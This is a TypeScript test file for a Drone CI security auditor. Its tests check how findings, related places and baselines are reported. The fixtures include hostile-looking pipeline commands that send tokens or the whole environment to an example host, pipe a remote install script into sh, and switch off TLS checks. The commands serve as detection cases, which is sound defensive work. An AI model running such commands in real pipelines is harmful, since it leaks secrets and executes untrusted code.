import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type Hit, hitAt } from '../src/model/rule.ts';
import { atLeast } from '../src/model/severity.ts';
import { allRules, familyOf } from '../src/rules/all.ts';
import { droneAudit, temporaryFolder } from './support/cli.ts';
import { fixturesIn, hitsOf, readFixture } from './support/fixtures.ts';
import { writeFiles } from './support/git.ts';
import { plain } from './support/text.ts';

// What a rule says of the further places of a fault, which are told alone once somebody has accepted the first.
const root = 'test/fixtures/rules';

/** The step or service that a path of keys leads into. */
function stepOf({ at }: Pick<Hit, 'at'>): string | undefined {
  return /^pipeline.*?\.(?:steps|services|pipeline)\[.*?\](?=\.|$)/.exec(at.path)?.[0];
}

const withPlaces = allRules.flatMap((rule) => {
  const folder = join(root, familyOf.get(rule.id) ?? '', rule.id);
  const names = existsSync(folder) ? fixturesIn(folder) : [];
  const hits = names.flatMap((name) => hitsOf(rule, readFixture(join(folder, name), name)).map(({ hit }) => hit));
  const places = hits.flatMap((hit) =>
    (hit.related ?? []).flatMap((place) => (place.again ? [{ hit, place, again: place.again }] : [])),
  );
  return places.length > 0 ? [{ id: rule.id, rule, places }] : [];
});

it('many rules have such places', () => expect(withPlaces.length).toBeGreaterThan(50));

it.each(withPlaces)(
  'those of $id are no worse than the first, and say who is open to their step',
  ({ rule, places }) => {
    for (const { hit, place, again } of places) {
      const told = `${place.at.source.name} ${place.at.path}: ${plain(place.message)}`;
      const own = hit.severity ?? rule.severity;
      expect(atLeast(own, again.severity ?? own), `${told} is worse than its finding`).toBe(true);
      const isElsewhere = stepOf(place) !== undefined && stepOf(place) !== stepOf(hit);
      if (isElsewhere && hit.reach) expect(again.reach, `${told} has the reach of another step`).toBeDefined();
      const alone = plain(hitAt(hit, place).message);
      expect(alone, `${told} is one line`).not.toMatch(/\n|\.$/);
    }
  },
);

interface Told {
  readonly rule: string;
  readonly line: number;
  readonly message: string;
  readonly severity: string;
  readonly reach?: string;
  readonly related: readonly { readonly line: number }[];
}

function scan(cwd: string, rules: readonly string[], ...args: readonly string[]) {
  const chosen = rules.flatMap((rule) => ['--rule', rule]);
  const { stdout } = droneAudit(['scan', '--format', 'json', ...chosen, ...args], { cwd });
  const { findings, suppressed } = JSON.parse(stdout) as Record<'findings' | 'suppressed', readonly Told[]>;
  return { findings, suppressed };
}

function folderWith(pipeline: string): string {
  const folder = temporaryFolder();
  writeFiles(folder, { '.drone.yml': pipeline });
  return folder;
}

const pipeline = (name: string, event: string, steps: string): string =>
  `kind: pipeline\ntype: docker\nname: ${name}\ntrigger: {event: [${event}]}\nsteps:\n${steps}`;

describe('a value that stands elsewhere than its finding', () => {
  const withValues = (command: string, url: string, secret: string): string =>
    pipeline(
      'web',
      'push',
      `- name: test\n  image: alpine:3.20.3\n  environment:\n    URL: ${url}\n    TOKEN:\n      from_secret: ${secret}\n  commands:\n  - BASE=$URL/v1\n  - ${command}\n  - tar xf tool.tgz\n`,
    );
  const commands = [
    ['secret-sent-out', 'curl -d "$TOKEN" $URL/notify'],
    ['credentials-sent-out', 'env | curl -d @- $URL/notify'],
    ['remote-script', 'curl -fsSL $URL/install.sh | sh'],
    ['remote-script', 'curl -fsSL $BASE/install.sh | sh'],
    ['remote-script', 'sh -c "$(curl -fsSL $URL/install.sh)"'],
    ['unverified-download', 'curl -fsSLo tool.tgz $URL/tool.tgz'],
    ['tls-check-off', 'curl -k $URL/'],
  ] as const;

  it.each(commands)('makes another finding of %s once it is another: %s', (rule, command) => {
    const folder = folderWith(withValues(command, 'https://one.example', 'token'));
    scan(folder, [rule], '--write-baseline', 'baseline.yml');
    const compared = (url: string) => {
      writeFiles(folder, { '.drone.yml': `# moved\n${withValues(command, url, 'token')}` });
      const { findings, suppressed } = scan(folder, [rule], '--baseline', 'baseline.yml');
      return [findings.length, suppressed.length];
    };
    expect(compared('https://one.example')).toEqual([0, 1]);
    expect(compared('https://two.example')).toEqual([1, 0]);
  });

  it.each([
    ['secret-sent-out', 'curl -d "$TOKEN" https://one.example/'],
    ['printed-secret', 'echo "$TOKEN" | base64'],
    ['secret-in-build-argument', 'docker build --build-arg TOKEN .'],
  ])('makes another finding of %s where it is the name of the secret', (rule, command) => {
    const folder = folderWith(withValues(command, 'https://one.example', 'token'));
    scan(folder, [rule], '--write-baseline', 'baseline.yml');
    writeFiles(folder, { '.drone.yml': withValues(command, 'https://one.example', 'production_key') });
    expect(scan(folder, [rule], '--baseline', 'baseline.yml')).toMatchObject({ findings: [{ rule }], suppressed: [] });
  });

  it('makes another finding of a switch once it is for another host', () => {
    const folder = folderWith(withValues('curl -k https://one.example/', 'unused', 'token'));
    scan(folder, ['tls-check-off'], '--write-baseline', 'baseline.yml');
    writeFiles(folder, { '.drone.yml': withValues('curl -k https://two.example/', 'unused', 'token') });
    expect(scan(folder, ['tls-check-off'], '--baseline', 'baseline.yml').findings).toHaveLength(1);
  });
});

describe('a step with a stored secret and two that an extension is asked for', () => {
  const rules = ['secret-on-pull-request', 'external-secret-on-pull-request'];
  const document = (name: string): string =>
    `---\nkind: secret\nname: ${name}\nget: {path: secret/data/${name}, name: x}\n`;
  const text = (comment = ''): string =>
    `${pipeline(
      'web',
      'push, pull_request',
      `- name: publish\n  image: plugins/npm:1\n  settings:\n    username: {from_secret: stored}\n    token: {from_secret: asked}${comment}\n    email: {from_secret: other}\n`,
    )}${document('asked')}${document('other')}`;
  const told = (findings: readonly Told[]) =>
    findings.map(({ rule, line, related }) => [rule, line, ...related.map((place) => place.line)].join(' ')).sort();

  it('is told each of them by one of the two rules', () => {
    expect(told(scan(folderWith(text()), rules).findings)).toEqual([
      'external-secret-on-pull-request 10 11 13 17 4',
      'secret-on-pull-request 9 4',
    ]);
  });

  it('has what is left told where one is accepted', () => {
    const accepted = text(' # drone-audit: ignore[external-secret-on-pull-request] may be read by all');
    const { findings } = scan(folderWith(accepted), rules);
    expect(findings.map(({ line, message }) => `${line} ${message}`).sort()).toEqual([
      '11 "publish" asks an extension for secret "other" on pull requests',
      expect.stringMatching(/^9 "publish" runs on pull requests with secret "stored"/),
    ]);
  });

  it('has all of them told by the one rule that is asked for', () => {
    expect(told(scan(folderWith(text()), ['secret-on-pull-request']).findings)).toEqual([
      'secret-on-pull-request 10 4 11',
      'secret-on-pull-request 9 4',
    ]);
  });
});

describe('a cache that pull requests fill', () => {
  const cache = (name: string, what: string): string =>
    `- name: ${name}\n  image: plugins/s3-cache:1.4.0\n  settings: {${what}: true, mount: [vendor]}\n`;
  const one = `${pipeline('test', 'push, pull_request', cache('save', 'rebuild'))}---\n${pipeline('release', 'tag', cache('restore', 'restore'))}`;

  it.each([
    ['another pipeline that uses it', 25, pipeline('nightly', 'cron', cache('again', 'restore'))],
    ['another step that fills it', 25, pipeline('lint', 'pull_request', cache('fill', 'rebuild'))],
  ])('is told again for %s', (_, line, another) => {
    const folder = folderWith(one);
    scan(folder, ['poisoned-cache'], '--write-baseline', 'baseline.yml');
    writeFiles(folder, { '.drone.yml': `${one}---\n${another}` });
    const { findings, suppressed } = scan(folder, ['poisoned-cache'], '--baseline', 'baseline.yml');
    expect(findings.map((each) => each.line)).toEqual([line]);
    expect(suppressed.map((each) => each.line)).toEqual([7]);
  });
});

describe('a further place that is told alone', () => {
  const accepted = (rule: string): string => ` # drone-audit: ignore[${rule}] ours`;

  it('says who is open to its own step', () => {
    const steps = `- name: one\n  image: alpine${accepted('unpinned-image')}\n  when: {event: [push]}\n- name: two\n  image: alpine\n  when: {event: [pull_request]}\n`;
    const { findings } = scan(folderWith(pipeline('web', 'push, pull_request', steps)), ['unpinned-image']);
    expect(findings.map(({ line, reach }) => `${line} ${reach}`)).toEqual(['10 fork pull requests']);
  });

  it('names its own step, and what that builds', () => {
    const steps = `- name: one\n  image: plugins/docker:20${accepted('implicitly-privileged-step')}\n- name: two\n  image: plugins/docker:21\n`;
    const { findings } = scan(folderWith(pipeline('web', 'push', steps)), ['implicitly-privileged-step']);
    expect(findings.map(({ message }) => message)).toEqual([
      '"two" runs "plugins/docker", which runs privileged without being asked',
    ]);
  });

  it('is as severe as it is: a block that holds promotions to branches', () => {
    const deploy = (name: string, comment: string, ref: string): string =>
      `- name: ${name}\n  image: plugins/s3:1\n  settings: {secret_key: {from_secret: key}}\n  when:\n    event:\n    - promote${comment}\n${ref}`;
    const steps = `${deploy('free', accepted('promotion-of-any-ref'), '')}${deploy('held', '', '    ref: [refs/heads/main]\n')}`;
    const { findings } = scan(
      folderWith(`kind: pipeline\ntype: docker\nname: web\ntrigger: {branch: [main]}\nsteps:\n${steps}`),
      ['promotion-of-any-ref'],
    );
    expect(findings.map(({ line, severity, message }) => `${line} ${severity} ${message}`)).toEqual([
      expect.stringMatching(/^17 low a promoted build .* where "held"/),
    ]);
  });
});
